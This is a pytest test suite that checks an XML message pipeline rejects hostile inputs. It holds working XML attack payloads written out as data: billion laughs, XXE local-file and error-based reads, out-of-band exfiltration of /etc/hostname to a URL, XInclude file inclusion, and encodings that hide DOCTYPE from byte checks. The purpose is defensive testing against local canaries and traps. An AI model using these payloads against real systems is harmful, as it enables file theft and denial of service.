"""The attack corpus: hostile documents fed to the pump's ingress.

Every attack must be rejected with a typed error (``inject`` returns None, exactly
one ``Huh`` reply with the expected code, one dead letter with that code), be
handled in under 50 ms, never be routed (the ``echo`` listener receives nothing
and no history slot holds it), and leave the pump serving.

The DOCTYPE attacks are repeated in encodings that hide ``<!DOCTYPE`` from a byte
search (UTF-16 with and without a BOM, UTF-32, UTF-7): the parser accepts only
UTF-8, so they are refused, and no local file or network address is ever touched.
"""

from __future__ import annotations

import asyncio
import errno
import logging
import os
import secrets
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from support import NS, Ping, Pong, ping_xml, pong

from xml_pipeline import (
    ENVELOPE_NAMESPACE,
    Huh,
    Listener,
    MalformedMessage,
    MessageError,
    MessageTooLarge,
    ParseLimits,
    Reply,
    build_envelope,
    parse_envelope,
)
from xml_pipeline.parser import parse_bytes

RunPump = Callable[..., Any]

BUDGET_S = 2.0
"""A bound that only a hang breaks (a parser blocked on a file, a network fetch, an
exponential expansion), generous enough for a loaded machine: how fast rejections are
is measured by benchmarks/stages.py, not asserted here."""

PING_QNAME = f"{{{NS}}}Ping"
PUMP_SENDER = "xml_pipeline"
XINCLUDE_2001 = "http://www.w3.org/2001/XInclude"
XINCLUDE_2003 = "http://www.w3.org/2003/XInclude"


# -- helpers -------------------------------------------------------------------------


def echo() -> Listener:
    return Listener("echo", (Ping,), pong)


def raw_envelope(text_xml: str = "hello", *, extra: str = "", to: str = "echo") -> str:
    """A hand-written envelope (so it can carry a DOCTYPE and entity references).

    ``text_xml`` and ``extra`` are raw XML placed in the Ping payload.
    """
    return (
        f'<message xmlns="{ENVELOPE_NAMESPACE}"><meta><from>mallory</from><to>{to}</to></meta>'
        f'<Ping xmlns="{NS}"><n>1</n><text>{text_xml}</text>{extra}</Ping></message>'
    )


def envelope(text: str, *, n: int = 1, to: str | None = "echo") -> bytes:
    """A well-formed envelope built with lxml."""
    return build_envelope(sender="mallory", to=to, payload=etree.fromstring(ping_xml(n, text)))


def _utf7(doc: str) -> bytes:
    # Python writes "<" literally in UTF-7; "<!" is spelled out in modified base64
    # so that neither b"<!DOCTYPE" nor b"<!ENTITY" appears in the bytes.
    body = doc.encode("utf-7").replace(b"<!", b"+ADwAIQ-")
    return b'<?xml version="1.0" encoding="UTF-7"?>' + body


ENCODERS: dict[str, Callable[[str], bytes]] = {
    "utf-8": lambda doc: doc.encode("utf-8"),
    "utf-16-bom": lambda doc: doc.encode("utf-16"),
    "utf-16-bom-decl": lambda doc: ('<?xml version="1.0" encoding="UTF-16"?>' + doc).encode(
        "utf-16"
    ),
    "utf-16le-decl": lambda doc: ('<?xml version="1.0" encoding="UTF-16LE"?>' + doc).encode(
        "utf-16-le"
    ),
    "utf-16be-decl": lambda doc: ('<?xml version="1.0" encoding="UTF-16BE"?>' + doc).encode(
        "utf-16-be"
    ),
    "utf-32-bom": lambda doc: doc.encode("utf-32"),
    "utf-7": _utf7,
}
HIDING_ENCODINGS = [name for name in ENCODERS if name != "utf-8"]


def encode(doc: str, encoding: str) -> bytes:
    data = ENCODERS[encoding](doc)
    if encoding != "utf-8":
        # The point of these variants: a byte search cannot see the DTD.
        assert b"<!DOCTYPE" not in data
        assert b"<!ENTITY" not in data
    return data


def huhs(replies: list[Reply]) -> list[Huh]:
    return [r.payload for r in replies if isinstance(r.payload, Huh)]


async def history_slots(h: Any) -> list[Any]:
    slots = []
    for thread in await h.backend.buffer_list_threads():
        slots.extend(await h.backend.buffer_get_thread(thread))
    return slots


async def assert_not_routed(h: Any) -> None:
    for name, stats in h.pump.statistics().listeners.items():
        assert stats.received == 0, f"{name} received the attack"
    for slot in await history_slots(h):
        assert slot.payload != PING_QNAME, f"history holds the attack: {slot}"


async def assert_rejected(h: Any, data: bytes | str, code: str, *, to: str | None = None) -> Huh:
    """Inject one attack; check the typed rejection, the time budget and no routing."""
    replies_before = len(h.replies)
    letters_before = len(await h.backend.deadletter_list())
    rejected_before = h.pump.statistics().rejected
    start = time.perf_counter()
    result = await h.pump.inject(data, to=to)
    elapsed = time.perf_counter() - start
    assert result is None, "the attack was accepted (inject returned a thread id)"
    new = h.replies[replies_before:]
    assert len(new) == 1, new
    reply = new[0]
    huh = reply.payload
    assert isinstance(huh, Huh), reply
    assert huh.code == code, huh
    assert reply.sender == PUMP_SENDER
    reply.to_xml()  # the Huh itself serializes (no raw control bytes from the input)
    letters = (await h.backend.deadletter_list())[letters_before:]
    assert [letter.code for letter in letters] == [code]
    assert h.pump.statistics().rejected == rejected_before + 1
    assert elapsed < BUDGET_S, f"rejection took {elapsed * 1e3:.1f} ms"
    await assert_not_routed(h)
    return huh


async def assert_still_serves(h: Any) -> None:
    reply = await h.pump.request(ping_xml(1, "still alive"), to="echo", timeout=5)
    assert isinstance(reply.payload, Pong)
    assert reply.payload.text == "still alive"
    assert reply.payload.by == "echo"


async def check_attack(
    run_pump: RunPump, data: bytes | str, code: str, *, to: str | None = None
) -> None:
    async with run_pump([echo()]) as h:
        await assert_rejected(h, data, code, to=to)
        assert len(huhs(h.replies)) == 1
        await assert_still_serves(h)


@dataclass(frozen=True)
class Canary:
    """A secret in local files that an attack tries to read."""

    token: str
    text_file: Path  # holds the token only
    dtd_file: Path  # a valid DTD declaring entities whose value is the token

    @property
    def text_uri(self) -> str:
        return self.text_file.as_uri()

    @property
    def dtd_uri(self) -> str:
        return self.dtd_file.as_uri()


@pytest.fixture
def canary(tmp_path: Path) -> Canary:
    token = "CANARY" + secrets.token_hex(16)
    text_file = tmp_path / "secret.txt"
    text_file.write_text(token, encoding="utf-8")
    dtd_file = tmp_path / "secret.dtd"
    dtd_file.write_text(
        f'<!ENTITY leak "{token}">\n<!ENTITY % pleak "{token}">\n', encoding="utf-8"
    )
    return Canary(token, text_file, dtd_file)


async def assert_no_leak(h: Any, token: str, caplog: pytest.LogCaptureFixture) -> None:
    needle = token.encode()
    for reply in h.replies:
        assert needle not in reply.to_xml(), f"leaked into a reply: {reply}"
    for slot in await history_slots(h):
        assert needle not in slot.xml, f"leaked into history: {slot}"
    for letter in await h.backend.deadletter_list():
        assert needle not in letter.data, f"leaked into a dead letter: {letter}"
        assert token not in letter.reason, f"leaked into a dead letter: {letter}"
    assert token not in caplog.text, "leaked into the logs"
    for record in caplog.records:
        assert token not in record.getMessage()


class TcpTrap:
    """A TCP listener on 127.0.0.1 (in a thread) that counts and drops connections."""

    def __init__(self) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(16)
        self._sock.settimeout(0.01)
        self.port: int = self._sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="tcp-trap", daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            conn.close()  # answer nothing: a client gets EOF at once, never hangs

    def __enter__(self) -> TcpTrap:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._sock.close()


class FifoTrap:
    """A named pipe; a thread notices whenever anyone opens it for reading.

    Opening a FIFO for reading blocks until a writer appears, so a parser that
    follows a ``file://`` reference to it would hang forever (on the event loop).
    The thread plays the writer, so such a test fails instead of hanging.
    """

    def __init__(self, path: Path) -> None:
        self.path = path
        os.mkfifo(path)
        self.opened = False
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="fifo-trap", daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                if exc.errno != errno.ENXIO:  # ENXIO: nobody has it open for reading
                    raise
                time.sleep(0.001)
                continue
            self.opened = True
            os.close(fd)  # the reader gets EOF

    @property
    def uri(self) -> str:
        return self.path.as_uri()

    def __enter__(self) -> FifoTrap:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=5)


# -- entity expansion ------------------------------------------------------------------


def billion_laughs() -> str:
    decls = ['<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        decls.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">')
    return f"<!DOCTYPE message [{''.join(decls)}]>" + raw_envelope("&lol9;")


def quadratic_blowup() -> str:
    doctype = f'<!DOCTYPE message [<!ENTITY a "{"A" * 50_000}">]>'
    return doctype + raw_envelope("&a;" * 10_000)


@pytest.mark.parametrize("encoding", list(ENCODERS))
async def test_billion_laughs(run_pump: RunPump, encoding: str) -> None:
    await check_attack(run_pump, encode(billion_laughs(), encoding), "malformed")


@pytest.mark.parametrize("encoding", list(ENCODERS))
async def test_quadratic_blowup(run_pump: RunPump, encoding: str) -> None:
    data = encode(quadratic_blowup(), encoding)
    assert len(data) < ParseLimits().max_bytes  # the byte limit is not what stops it
    await check_attack(run_pump, data, "malformed")


# -- external entities, DTDs and XInclude: nothing may be read -----------------------------


def xxe_file(c: Canary) -> str:
    return f'<!DOCTYPE message [<!ENTITY xxe SYSTEM "{c.text_uri}">]>' + raw_envelope("&xxe;")


def xxe_attribute_default(c: Canary) -> str:
    return (
        f'<!DOCTYPE message [<!ENTITY xxe SYSTEM "{c.text_uri}">'
        '<!ATTLIST Ping note CDATA "&xxe;">]>' + raw_envelope("x")
    )


def xxe_parameter_entity(c: Canary) -> str:
    return f'<!DOCTYPE message [<!ENTITY % ext SYSTEM "{c.dtd_uri}"> %ext;]>' + raw_envelope(
        "&leak;"
    )


def xxe_parameter_entity_text(c: Canary) -> str:
    # The classic "error-based" exfiltration: the secret in a parameter entity,
    # spliced into a declaration that fails (and may be echoed in the error).
    return (
        f'<!DOCTYPE message [<!ENTITY % file SYSTEM "{c.text_uri}">'
        "<!ENTITY % eval \"<!ENTITY &#x25; err SYSTEM 'file:///nonexistent/%file;'>\">"
        "%eval;%err;]>" + raw_envelope("x")
    )


def external_dtd(c: Canary) -> str:
    return f'<!DOCTYPE message SYSTEM "{c.dtd_uri}">' + raw_envelope("&leak;")


def external_dtd_public(c: Canary) -> str:
    return f'<!DOCTYPE message PUBLIC "-//X//Y//EN" "{c.dtd_uri}">' + raw_envelope("&leak;")


LOCAL_FILE_ATTACKS: dict[str, Callable[[Canary], str]] = {
    "xxe-file": xxe_file,
    "xxe-attribute-default": xxe_attribute_default,
    "parameter-entity": xxe_parameter_entity,
    "parameter-entity-error-exfil": xxe_parameter_entity_text,
    "external-dtd": external_dtd,
    "external-dtd-public": external_dtd_public,
}


@pytest.mark.parametrize("encoding", list(ENCODERS))
@pytest.mark.parametrize("attack", list(LOCAL_FILE_ATTACKS))
async def test_local_file_is_never_leaked(
    run_pump: RunPump,
    canary: Canary,
    caplog: pytest.LogCaptureFixture,
    attack: str,
    encoding: str,
) -> None:
    caplog.set_level(logging.DEBUG)
    data = encode(LOCAL_FILE_ATTACKS[attack](canary), encoding)
    async with run_pump([echo()]) as h:
        await assert_rejected(h, data, "malformed")
        await assert_still_serves(h)
        await assert_no_leak(h, canary.token, caplog)


def fifo_external_dtd(uri: str) -> str:
    return f'<!DOCTYPE message SYSTEM "{uri}">' + raw_envelope("x")


def fifo_parameter_entity(uri: str) -> str:
    return f'<!DOCTYPE message [<!ENTITY % ext SYSTEM "{uri}"> %ext;]>' + raw_envelope("x")


def fifo_general_entity(uri: str) -> str:
    return f'<!DOCTYPE message [<!ENTITY xxe SYSTEM "{uri}">]>' + raw_envelope("&xxe;")


FIFO_ATTACKS: dict[str, Callable[[str], str]] = {
    "external-dtd": fifo_external_dtd,
    "parameter-entity": fifo_parameter_entity,
    "general-entity": fifo_general_entity,
}


@pytest.mark.parametrize("encoding", list(ENCODERS))
@pytest.mark.parametrize("attack", list(FIFO_ATTACKS))
async def test_local_file_is_never_opened(
    run_pump: RunPump, tmp_path: Path, attack: str, encoding: str
) -> None:
    """The parser must not even open a referenced file: a FIFO would hang the pump."""
    with FifoTrap(tmp_path / "pipe") as fifo:
        data = encode(FIFO_ATTACKS[attack](fifo.uri), encoding)
        async with run_pump([echo()]) as h:
            replies_before = len(h.replies)
            start = time.perf_counter()
            result = await h.pump.inject(data)
            elapsed = time.perf_counter() - start
            assert not fifo.opened, (
                f"the parser opened {fifo.uri} while parsing (it blocked "
                f"{elapsed * 1e3:.1f} ms until the test's writer released it; "
                "without a writer the event loop hangs forever)"
            )
            assert result is None
            assert [huh.code for huh in huhs(h.replies[replies_before:])] == ["malformed"]
            assert elapsed < BUDGET_S
            await assert_not_routed(h)
            await assert_still_serves(h)


def network_dtd(url: str) -> str:
    return f'<!DOCTYPE message SYSTEM "{url}/evil.dtd">' + raw_envelope("x")


def network_parameter_entity(url: str) -> str:
    return f'<!DOCTYPE message [<!ENTITY % r SYSTEM "{url}/r.dtd"> %r;]>' + raw_envelope("x")


def network_general_entity(url: str) -> str:
    return f'<!DOCTYPE message [<!ENTITY e SYSTEM "{url}/e.txt">]>' + raw_envelope("&e;")


def network_out_of_band(url: str) -> str:
    # Blind XXE: read a local file and send it to the attacker's server.
    return (
        '<!DOCTYPE message [<!ENTITY % file SYSTEM "file:///etc/hostname">'
        f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{url}/?d=%file;'>\">"
        "%eval;%exfil;]>" + raw_envelope("x")
    )


NETWORK_ATTACKS: dict[str, Callable[[str], str]] = {
    "dtd": network_dtd,
    "parameter-entity": network_parameter_entity,
    "general-entity": network_general_entity,
    "out-of-band": network_out_of_band,
}


@pytest.mark.parametrize("encoding", list(ENCODERS))
@pytest.mark.parametrize("attack", list(NETWORK_ATTACKS))
async def test_network_dtd_makes_no_connection(
    run_pump: RunPump, attack: str, encoding: str
) -> None:
    with TcpTrap() as trap:
        data = encode(NETWORK_ATTACKS[attack](f"http://127.0.0.1:{trap.port}"), encoding)
        async with run_pump([echo()]) as h:
            await assert_rejected(h, data, "malformed")
            await asyncio.sleep(0.1)  # a late connection attempt would show up now
            assert trap.connections == 0
            await assert_still_serves(h)
        # The trap does see connections: one made on purpose is counted.
        with socket.create_connection(("127.0.0.1", trap.port), timeout=5):
            pass
        deadline = time.monotonic() + 5
        while trap.connections == 0 and time.monotonic() < deadline:
            await asyncio.sleep(0.01)
        assert trap.connections == 1


def xinclude_payload(uri: str, form: str) -> str:
    include = f'<xi:include href="{uri}" parse="text"/>'
    if form == "xi-2001":
        return f'<Ping xmlns="{NS}" xmlns:xi="{XINCLUDE_2001}"><n>1</n>{include}</Ping>'
    if form == "xi-2003":
        return f'<Ping xmlns="{NS}" xmlns:xi="{XINCLUDE_2003}"><n>1</n>{include}</Ping>'
    if form == "default-namespace":
        return (
            f'<Ping xmlns="{NS}"><n>1</n>'
            f'<include xmlns="{XINCLUDE_2001}" href="{uri}" parse="text"/></Ping>'
        )
    if form == "in-text-field":
        return (
            f'<Ping xmlns="{NS}" xmlns:xi="{XINCLUDE_2001}"><n>1</n><text>{include}</text></Ping>'
        )
    if form == "as-root":
        return f'<xi:include xmlns:xi="{XINCLUDE_2001}" href="{uri}" parse="text"/>'
    if form == "charref-namespace":
        # The namespace URI spelled with a character reference: b"XInclude" is not
        # in the bytes, but the parsed namespace is the XInclude one.
        hidden = XINCLUDE_2001.replace("XInclude", "&#88;Include")
        return f'<Ping xmlns="{NS}" xmlns:xi="{hidden}"><n>1</n>{include}</Ping>'
    raise AssertionError(form)


XINCLUDE_FORMS = [
    "xi-2001",
    "xi-2003",
    "default-namespace",
    "in-text-field",
    "as-root",
    "charref-namespace",
]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-bom"])
@pytest.mark.parametrize("wrapped", [True, False], ids=["envelope", "bare"])
@pytest.mark.parametrize("form", XINCLUDE_FORMS)
async def test_xinclude_is_refused(
    run_pump: RunPump,
    canary: Canary,
    caplog: pytest.LogCaptureFixture,
    form: str,
    wrapped: bool,
    encoding: str,
) -> None:
    caplog.set_level(logging.DEBUG)
    payload = xinclude_payload(canary.text_uri, form)
    if wrapped:
        doc = (
            f'<message xmlns="{ENVELOPE_NAMESPACE}"><meta><from>mallory</from>'
            f"<to>echo</to></meta>{payload}</message>"
        )
    else:
        doc = payload
    data = ENCODERS[encoding](doc)
    async with run_pump([echo()]) as h:
        await assert_rejected(h, data, "malformed", to=None if wrapped else "echo")
        await assert_still_serves(h)
        await assert_no_leak(h, canary.token, caplog)


# -- size and shape ------------------------------------------------------------------------


def deep_payload(depth: int) -> str:
    return f'<Ping xmlns="{NS}"><n>1</n>' + "<d>" * depth + "</d>" * depth + "</Ping>"


@pytest.mark.parametrize(
    ("wrapped", "encoding"),
    [(True, "utf-8"), (False, "utf-8")],
    ids=["envelope", "bare"],
)
@pytest.mark.parametrize("depth", [100, 10_000])
async def test_deep_nesting(run_pump: RunPump, depth: int, wrapped: bool, encoding: str) -> None:
    payload = deep_payload(depth)
    if wrapped:
        doc = (
            f'<message xmlns="{ENVELOPE_NAMESPACE}"><meta><from>mallory</from>'
            f"<to>echo</to></meta>{payload}</message>"
        )
    else:
        doc = payload
    await check_attack(
        run_pump, ENCODERS[encoding](doc), "too-large", to=None if wrapped else "echo"
    )


@pytest.mark.parametrize("as_str", [False, True], ids=["bytes", "str"])
async def test_50mb_text_node(run_pump: RunPump, as_str: bool) -> None:
    text = "A" * (50 * 1024 * 1024)
    doc = f'<Ping xmlns="{NS}"><n>1</n><text>{text}</text></Ping>'
    data: bytes | str = doc if as_str else doc.encode()
    async with run_pump([echo()]) as h:
        huh = await assert_rejected(h, data, "too-large", to="echo")
        assert huh.excerpt is not None and len(huh.excerpt) <= 200
        (letter,) = await h.backend.deadletter_list()
        assert len(letter.data) <= h.pump.organism.history.dead_letter_bytes
        await assert_still_serves(h)


def many_attributes(n: int) -> str:
    attrs = " ".join(f'a{i}=""' for i in range(n))
    return f'<Ping xmlns="{NS}" {attrs}><n>1</n><text>x</text></Ping>'


@pytest.mark.parametrize("wrapped", [True, False], ids=["envelope", "bare"])
async def test_200k_attributes(run_pump: RunPump, wrapped: bool) -> None:
    payload = many_attributes(200_000)
    if wrapped:
        doc = (
            f'<message xmlns="{ENVELOPE_NAMESPACE}"><meta><from>mallory</from>'
            f"<to>echo</to></meta>{payload}</message>"
        )
    else:
        doc = payload
    await check_attack(run_pump, doc.encode(), "too-large", to=None if wrapped else "echo")


# -- truncation: every prefix of a valid message -------------------------------------------


async def test_every_prefix_is_rejected_or_complete(run_pump: RunPump) -> None:
    # Non-ASCII characters and markup characters, so that prefixes also cut
    # through character and entity references (build_envelope writes both).
    unit = "Ping é&<>\"' 日本 ]]> "
    text = ""
    while len(envelope(text + ".")) < 1024:
        text += unit[len(text) % len(unit)]
    text = text.rstrip() + "."
    full = envelope(text) + b"\n"
    assert 1000 <= len(full) <= 1200
    complete = full.rstrip()
    expected = parse_envelope(full)
    expected_payload = etree.tostring(expected.payload, method="c14n")
    prefixes = [full[:i] for i in range(len(full) + 1)]
    n_complete = sum(prefix.startswith(complete) for prefix in prefixes)
    assert n_complete == 2  # the full message, and it without the trailing newline

    # Each prefix parses as the full message or not at all.
    for prefix in prefixes:
        try:
            env = parse_envelope(prefix)
        except MalformedMessage:
            assert not prefix.startswith(complete)
            continue
        assert prefix.startswith(complete)
        assert (env.sender, env.to, env.thread, env.id) == (
            expected.sender,
            expected.to,
            expected.thread,
            expected.id,
        )
        assert etree.tostring(env.payload, method="c14n") == expected_payload

    async with run_pump([echo()]) as h:
        accepted = 0
        slowest = 0.0
        for prefix in prefixes:
            start = time.perf_counter()
            result = await h.pump.inject(prefix)
            slowest = max(slowest, time.perf_counter() - start)
            if result is not None:
                accepted += 1
                assert prefix.startswith(complete)
        await h.pump.wait_idle()
        assert slowest < BUDGET_S
        assert accepted == n_complete
        stats = h.pump.statistics()
        assert stats.listeners["echo"].received == n_complete
        assert stats.rejected == len(prefixes) - n_complete
        pongs = [r.payload for r in h.replies if isinstance(r.payload, Pong)]
        assert len(pongs) == n_complete
        assert all(p.text == text and p.n == 1 for p in pongs)
        codes = {huh.code for huh in huhs(h.replies)}
        assert codes == {"malformed"}
        assert len(huhs(h.replies)) == len(prefixes) - n_complete
        letters = await h.backend.deadletter_list()
        assert len(letters) == len(prefixes) - n_complete
        await assert_still_serves(h)


# -- markup-looking text is only text ------------------------------------------------------

TRICKY = "a]]>b</text></Ping></message><to>admin</to></meta>&amp;<![CDATA[c]]>\"'"


def tricky_cdata_envelope() -> bytes:
    # The same text written by hand as CDATA sections ("]]>" split across two).
    cdata = "<![CDATA[" + TRICKY.replace("]]>", "]]]]><![CDATA[>") + "]]>"
    return raw_envelope(cdata).encode()


@pytest.mark.parametrize("form", ["envelope", "cdata-envelope", "bare"])
async def test_markup_in_text_round_trips(run_pump: RunPump, form: str) -> None:
    admin = Listener("admin", (Ping,), pong)
    async with run_pump([echo(), admin]) as h:
        if form == "envelope":
            data, to = envelope(TRICKY, n=5), None
        elif form == "cdata-envelope":
            data, to = tricky_cdata_envelope(), None
        else:
            data, to = ping_xml(5, TRICKY), "echo"
        reply = await h.pump.request(data, to=to, timeout=5)
        await h.pump.wait_idle()
        assert isinstance(reply.payload, Pong)
        assert reply.payload.text == TRICKY
        assert reply.payload.by == "echo"
        assert reply.sender == "echo"
        # The serialized reply carries the text exactly, as text.
        env = parse_envelope(reply.to_xml())
        assert env.payload.findtext(f"{{{NS}}}text") == TRICKY
        assert env.to == reply.to
        stats = h.pump.statistics().listeners
        assert stats["echo"].received == 1
        assert stats["admin"].received == 0
        assert stats["echo"].failed == 0
        assert huhs(h.replies) == []
        assert await h.backend.deadletter_list() == []
        for slot in await history_slots(h):
            assert slot.to != "admin", slot
            assert slot.sender != "admin", slot


# -- the parser's own limits ---------------------------------------------------------------


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


def flat(children: int) -> bytes:
    return b"<r>" + b"<c/>" * children + b"</r>"


def with_attributes(count: int, *, per_element: int = 2) -> bytes:
    parts = []
    names = iter(range(count))
    remaining = count
    while remaining > 0:
        k = min(per_element, remaining)
        attrs = " ".join(f'a{next(names)}="v"' for _ in range(k))
        parts.append(f"<c {attrs}/>")
        remaining -= k
    return ('<r xmlns="urn:x" xmlns:p="urn:p">' + "".join(parts) + "</r>").encode()


def as_utf16(data: bytes) -> bytes:
    return data.decode().encode("utf-16")


LIMIT_CASES: list[tuple[str, bytes, bytes, ParseLimits]] = [
    ("depth", nested(3), nested(4), ParseLimits(max_depth=3)),
    ("depth-wide", flat(50), nested(4), ParseLimits(max_depth=3, max_elements=100)),
    ("elements", flat(4), flat(5), ParseLimits(max_elements=5)),
    ("elements-nested", nested(5), nested(6), ParseLimits(max_elements=5, max_depth=10)),
    ("attributes", with_attributes(3), with_attributes(4), ParseLimits(max_attributes=3)),
    (
        "attributes-one-element",
        with_attributes(3, per_element=3),
        with_attributes(4, per_element=4),
        ParseLimits(max_attributes=3),
    ),
    ("bytes", b"<a>" + b"x" * 57 + b"</a>", b"<a>" + b"x" * 58 + b"</a>", ParseLimits(64)),
    # The fewest bytes a document over each limit can have: parse_bytes skips its
    # counts when the size alone proves a limit cannot be reached.
    (
        "elements-tightest",
        b"<a>" + b"<a/>" * 4 + b"</a>",
        b"<a>" + b"<a/>" * 5 + b"</a>",
        ParseLimits(max_elements=5),
    ),
    (
        "depth-tightest",
        b"<a>" * 2 + b"<a/>" + b"</a>" * 2,
        b"<a>" * 3 + b"<a/>" + b"</a>" * 3,
        ParseLimits(max_depth=3),
    ),
    (
        "attributes-tightest",
        b'<a b="" c="" d=""/>',
        b'<a b="" c="" d="" e=""/>',
        ParseLimits(max_attributes=3),
    ),
]


def test_attributes_need_a_space_each() -> None:
    # What the attribute bound of parse_bytes relies on (5 bytes per attribute).
    with pytest.raises(MalformedMessage):
        parse_bytes(b'<a b=""c=""d=""e=""/>', ParseLimits(max_attributes=3))


@pytest.mark.parametrize(
    ("ok", "too_large", "limits"),
    [case[1:] for case in LIMIT_CASES],
    ids=[case[0] for case in LIMIT_CASES],
)
def test_parse_limits(ok: bytes, too_large: bytes, limits: ParseLimits) -> None:
    root = parse_bytes(ok, limits)
    assert root.tag in ("a", "r", "{urn:x}r")
    with pytest.raises(MessageTooLarge):
        parse_bytes(too_large, limits)


@pytest.mark.parametrize("case", LIMIT_CASES, ids=[case[0] for case in LIMIT_CASES])
def test_only_utf8_is_accepted(case: tuple[str, bytes, bytes, ParseLimits]) -> None:
    # Other encodings could hide markup from the byte-level checks: refused outright.
    _, ok, _, _ = case
    with pytest.raises(MalformedMessage, match="UTF-8"):
        parse_bytes(as_utf16(ok))
    assert parse_bytes(b"\xef\xbb\xbf" + ok).tag in ("a", "r", "{urn:x}r")
    declared = b'<?xml version="1.0" encoding="ISO-8859-5"?>' + ok
    with pytest.raises(MalformedMessage, match="not accepted"):
        parse_bytes(declared)


def test_namespace_declarations_are_not_attributes() -> None:
    data = b'<r xmlns="urn:x" xmlns:p="urn:p" xmlns:q="urn:q"><c p:a="1"/></r>'
    assert parse_bytes(data, ParseLimits(max_attributes=1)) is not None
    with pytest.raises(MessageTooLarge):
        parse_bytes(b'<r a="1"><c p="1"/></r>', ParseLimits(max_attributes=1))


@pytest.mark.parametrize("field", ["max_bytes", "max_depth", "max_elements"])
def test_parse_limits_must_be_positive(field: str) -> None:
    with pytest.raises(ValueError, match=field):
        ParseLimits(**{field: 0})


def test_parse_limits_zero_attributes() -> None:
    with pytest.raises(ValueError, match="max_attributes"):
        ParseLimits(max_attributes=-1)
    limits = ParseLimits(max_attributes=0)
    assert parse_bytes(b'<r xmlns="urn:x"><c/></r>', limits) is not None
    with pytest.raises(MessageTooLarge):
        parse_bytes(b'<r xmlns="urn:x"><c a="1"/></r>', limits)


def test_200k_attributes_over_the_attribute_limit() -> None:
    # With a byte limit large enough to let the document through, the attribute
    # count still stops it.
    data = many_attributes(200_000).encode()
    limits = ParseLimits(max_bytes=64 * 1024 * 1024)
    assert len(data) < limits.max_bytes
    with pytest.raises(MessageTooLarge, match="attributes"):
        parse_bytes(data, limits)


def test_50mb_text_node_over_libxml2_limit_is_too_large() -> None:
    # With a byte limit above 50 MB, libxml2's own resource limit (10 MB per text
    # node without XML_PARSE_HUGE) stops the document. It is well-formed and
    # merely too large, so it must be "too-large", like libxml2's depth limit.
    data = b"<a>" + b"A" * (50 * 1024 * 1024) + b"</a>"
    limits = ParseLimits(max_bytes=64 * 1024 * 1024)
    with pytest.raises(MessageError) as info:
        parse_bytes(data, limits)
    assert info.value.code == "too-large", info.value.reason


@pytest.mark.parametrize("encoding", list(ENCODERS))
def test_parser_refuses_doctype_in_any_encoding(encoding: str) -> None:
    with pytest.raises(MalformedMessage, match=r"DTD|UTF-8|not accepted"):
        parse_bytes(encode("<!DOCTYPE a [<!ELEMENT a ANY>]><a/>", encoding))


@contextmanager
def _no_reads_of(path: Path) -> Iterator[None]:
    # A file whose reading would be noticed: it is replaced by a FIFO.
    with FifoTrap(path) as fifo:
        yield
        assert not fifo.opened, f"the parser opened {path}"


@pytest.mark.parametrize("encoding", list(ENCODERS))
def test_parser_never_opens_external_subset(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "pipe.dtd"
    with _no_reads_of(path):
        doc = f'<!DOCTYPE a SYSTEM "{path.as_uri()}"><a/>'
        with pytest.raises(MalformedMessage):
            parse_bytes(encode(doc, encoding))
